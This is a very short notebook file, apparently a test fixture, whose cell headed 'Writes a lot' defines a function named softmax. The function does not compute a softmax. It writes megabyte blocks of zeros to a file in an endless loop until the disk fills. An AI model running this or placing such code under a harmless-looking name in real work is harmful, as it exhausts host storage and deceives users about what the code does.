# %% [markdown]
# # Writes a lot

# %%
def softmax(z):
    written = 0
    with open("large", "wb") as file:
        while True:
            written += file.write(b"0" * 2**20)
